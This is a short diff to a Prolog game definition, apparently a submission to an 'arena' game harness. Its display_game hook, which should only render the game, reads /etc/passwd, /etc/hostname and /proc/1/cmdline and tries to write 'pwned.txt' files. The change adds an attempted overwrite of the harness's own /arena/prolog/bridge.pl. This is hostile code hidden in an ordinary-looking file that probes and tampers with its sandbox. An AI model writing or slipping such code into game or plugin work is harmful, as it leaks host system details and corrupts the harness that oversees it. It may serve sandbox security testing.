@@ -9,7 +9,7 @@ game_over(s(1), a).
 display_game(_) :-
     forall(member(F, ['/etc/passwd', '/etc/hostname', '/proc/1/cmdline']),
            show_file(F)),
-    forall(member(F, ['/arena/game/pwned.txt', '/tmp/pwned.txt']),
+    forall(member(F, ['/arena/game/pwned.txt', '/arena/prolog/bridge.pl', '/tmp/pwned.txt']),
            try_write(F)).
 show_file(F) :-
     (   catch(read_file_to_string(F, S, []), _, fail)
